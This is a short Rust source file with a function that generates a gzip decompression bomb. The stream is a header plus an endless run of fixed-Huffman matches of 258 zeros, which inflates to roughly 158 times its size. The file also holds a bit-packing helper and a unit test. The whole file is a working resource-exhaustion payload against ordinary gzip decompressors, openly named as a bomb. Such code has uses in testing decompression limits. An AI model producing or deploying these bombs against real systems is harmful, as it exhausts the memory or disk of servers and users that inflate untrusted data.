//! A gzip bomb: few bytes that inflate to many.

/// A gzip stream (RFC 1952) of at least `bytes` bytes, which inflates to some 158 times as much: one literal, then
/// matches of 258 zeros at distance one, in a block of fixed Huffman codes (RFC 1951). It has no end: who inflates it
/// does so before it notices.
pub fn gzip_bomb(bytes: usize) -> Vec<u8> {
    let mut bomb = vec![0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 255];
    let mut bits = Bits::default();
    // Last block, fixed codes.
    bits.push(&mut bomb, 0b1, 1);
    bits.push(&mut bomb, 0b01, 2);
    // The literal 0 is 00110000, most significant bit first.
    bits.push(&mut bomb, 0b0000_1100, 8);
    while bomb.len() < bytes {
        // Length 258 is code 285: 11000101. Distance 1 is code 0: 00000.
        bits.push(&mut bomb, 0b1010_0011, 8);
        bits.push(&mut bomb, 0, 5);
    }
    bomb
}

/// Bits on their way into bytes, least significant first.
#[derive(Default)]
struct Bits {
    held: u32,
    count: u32,
}

impl Bits {
    fn push(&mut self, into: &mut Vec<u8>, bits: u32, count: u32) {
        self.held |= bits << self.count;
        self.count += count;
        while self.count >= 8 {
            into.push(self.held as u8);
            self.held >>= 8;
            self.count -= 8;
        }
    }
}

#[cfg(test)]
mod tests {
    use super::gzip_bomb;

    #[test]
    fn it_has_the_size_that_was_asked_for_and_a_gzip_head() {
        let bomb = gzip_bomb(60_000);
        assert!((60_000..60_008).contains(&bomb.len()));
        assert_eq!(bomb[..4], [0x1f, 0x8b, 8, 0]);
    }
}
